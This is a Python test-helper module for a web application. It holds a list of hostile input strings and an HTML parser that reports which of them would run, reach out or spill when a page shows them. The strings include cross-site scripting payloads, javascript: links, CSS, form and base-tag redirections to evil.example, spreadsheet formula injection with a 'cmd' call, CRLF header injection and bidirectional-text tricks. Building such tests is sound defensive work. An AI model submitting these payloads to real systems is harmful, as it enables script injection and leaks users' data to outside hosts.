"""Texts that attack whoever shows them, in one place; and what a page looks like that they have harmed.

`STRINGS` go into every text field, `LONG` where a field takes a megabyte. `faults` reads a page as a browser
does and says what of it may run, reach out, or spill from the place where it stands.
"""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Final

MARK: Final = "zqx"
"""Stands in every string: where it is shown is found by it."""

STRINGS: Final = {
    "script": f"{MARK}<script>alert(1)</script>",
    "handler": f'{MARK}"><img src=x onerror=alert(1)>',
    "single quotes": f"{MARK}' autofocus onfocus='alert(1)",
    "svg": f'{MARK}<svg/onload=alert(1)><a xlink:href="javascript:alert(1)">',
    "style": f"{MARK}</style><style>*{{display:none}}</style>",
    "css": f"{MARK};}}body{{background:url(//evil.example/x)}}",
    "end of title": f"{MARK}</title></textarea></svg></desc><script>alert(1)</script>",
    "comment": f"{MARK}--><!--><script>alert(1)</script>",
    "htmx": f'{MARK}<b hx-get="/sign-out" hx-trigger="load" hx-on:load="alert(1)">x</b>',
    "frame": f'{MARK}<iframe srcdoc="<script>alert(1)</script>"></iframe><base href="//evil.example/">',
    "form": f'{MARK}</form><form action="//evil.example"><button>Continuer</button>',
    "address": f"javascript:alert('{MARK}')",
    "template": f"{MARK}{{{{ 7*7 }}}}{{% raw %}}${{7*7}}#{{7*7}}",
    "blanks": f"{MARK}{{0}}{{name}}%s%(x)s",
    "formula": f'=HYPERLINK("http://evil.example/?{MARK}","Résultat")',
    "formula with a plus": f"+{MARK}|cmd|' /C calc'!A0",
    "header": f"{MARK}\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "entity": f"{MARK}&lt;script&gt;&#60;script&#62;alert(1)",
    "end of data": f"{MARK}]]><script>alert(1)</script>",
    "bidi override": f"{MARK}\u202edrowssap\u202d\u2066 fin",
    "bidi never closed": f"\u2067\u202b{MARK} ordonnance",
    "marks": f"{MARK}" + "Z\u0334\u0321\u0361" * 40,
    "wide": f"{MARK}\u3000\ufeff\u200b\u200d\U0001f9d1\u200d⚕️\ufdfd",
    "long": f"{MARK}" + "W" * 5_000,
}
"""What it attacks → the text."""

LONG: Final = f"{MARK}" + "N" * 1_000_000

_NEVER: Final = frozenset({"iframe", "object", "embed", "base", "style", "frame", "applet", "portal", "math"})
_HOLDS: Final = frozenset({"bdi", "textarea", "option", "title", "desc", "text"})
"""Elements from which the direction of a text never spills (HTML 15.3.5; each is a paragraph of its own)."""

_VOID: Final = frozenset({"input", "img", "br", "meta", "link", "hr", "col", "wbr", "area", "source", "base"})
_BIDI: Final = frozenset("\u202a\u202b\u202d\u202e\u2066\u2067\u2068")


def faults(page: str) -> list[str]:
    """Say what of a page may run, reach out or spill; [] when nothing does."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader.faults


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.open: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in _NEVER:
            self.faults.append(f"<{tag}>")
        if tag == "script" and not ("nonce" in given and given.get("src", "").startswith("/static/")):
            self.faults.append("a script that is not ours")
        for name, value in given.items():
            if name.startswith(("on", "hx-on")) or name in {"style", "srcdoc"}:
                self.faults.append(f"{tag} {name}")
            if name in {"href", "src", "action", "formaction", "xlink:href"} and not _stays(value):
                self.faults.append(f"{tag} {name}={value[:40]}")
            if name.startswith("hx-") and MARK in value:
                self.faults.append(f"{tag} {name} with a text of theirs")
        if tag not in _VOID:
            self.open.append((tag, given))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in _VOID:
            self.open.pop()

    def handle_endtag(self, tag: str) -> None:
        while self.open and self.open.pop()[0] != tag:
            continue

    def handle_data(self, data: str) -> None:
        if _BIDI.isdisjoint(data):
            return
        held = any(tag in _HOLDS or "typed" in given.get("class", "").split() for tag, given in self.open)
        if not held:
            self.faults.append(f"a direction spills in <{self.open[-1][0] if self.open else ''}>")


def _stays(address: str) -> bool:
    """Say whether an address leads to a page of ours."""
    return address.startswith(("/", "#")) and not address.startswith("//")
